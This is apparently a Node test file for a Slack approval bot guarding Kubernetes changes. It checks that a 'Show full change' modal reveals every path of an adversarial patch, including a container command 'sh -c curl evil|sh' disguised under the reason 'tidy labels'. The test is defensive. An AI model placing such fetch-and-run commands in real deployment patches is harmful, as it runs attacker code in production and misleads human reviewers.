import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { RecordingCluster } from '../../fakes/recording-cluster.ts';
import { startRedis, type RedisServer } from '../../harness/redis-server.ts';
import { adversarialChanges, adversarialPatch } from '../../unit/core/changes/adversarial-patch.ts';
import { allTexts } from '../../unit/adapters/slack/slack-assertions.ts';
import { buttonsOf, clickCard, messageText, typeCommand } from './slack-gestures.ts';
import { CHANNELS, PEOPLE, startSlackStack, type SlackStack } from './slack-stack.ts';

let redis: RedisServer;
let stack: SlackStack;
const cluster = new RecordingCluster();

before(async () => {
  redis = await startRedis();
  cluster.objects.set('prod-payments/Deployment/api', { labels: {}, annotations: {} });
  // The dry run's answer for the adversarial patch (the adapter's own is proven on the real API server in test/integration/kubernetes/actions.test.ts).
  cluster.patchChanges = adversarialChanges;
  stack = await startSlackStack({ redis, cluster, worker: true });
});

after(async () => {
  await stack?.stop();
  await redis?.stop();
});

void describe(
  'Slack: Show full change, real Bolt over signed HTTP (issue 15 item 1)',
  { timeout: 120_000 },
  () => {
    void test('the card says how many paths exist; its button opens a modal with every path and the whole command', async () => {
      const command = `patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy labels"`;
      const filed = await typeCommand(stack, PEOPLE.alice.id, command);
      const id = /cs-[a-z0-9]{10}/.exec(JSON.stringify((await filed.reply()).body))?.[0];
      assert.ok(id, 'the request was filed');
      const card = await stack.fake.nextMessage(
        (m) => m.channel === CHANNELS.prod.id && !m.threadTs && messageText(m).includes(id),
        20_000,
      );
      assert.match(messageText(card), /17 changed paths; 10 shown, values shortened/);
      assert.ok(!messageText(card).includes('curl evil'), 'the card alone leaves the command out');
      const change = (
        card.blocks as { block_id?: string; accessory?: { action_id?: string; value?: string } }[]
      ).find((b) => b.block_id === 'change');
      assert.equal(change?.accessory?.action_id, 'countersign:show-change');
      assert.equal(change.accessory.value, id);
      assert.deepEqual(Object.keys(buttonsOf(card)), ['countersign:approve', 'countersign:deny']);

      await clickCard(stack, PEOPLE.bob.id, 'countersign:show-change', card, id);
      const opened = await stack.fake.waitFor((f) =>
        f.views.find((v) => v.via === 'views.open' && v.view.callback_id === 'countersign:full-change'),
      );
      const text = allTexts(opened.view).join('\n');
      for (const { path } of adversarialChanges) assert.ok(text.includes(path), `${path} is in the modal`);
      assert.ok(text.includes('"command":["sh","-c","curl evil|sh"]'), 'the container command, whole');
      assert.ok(text.includes('"curl evil|sh"'), 'the exact patch');
      assert.equal((await stack.workflow.store.get(id))?.state, 'pending', 'looking decides nothing');
    });
  },
);
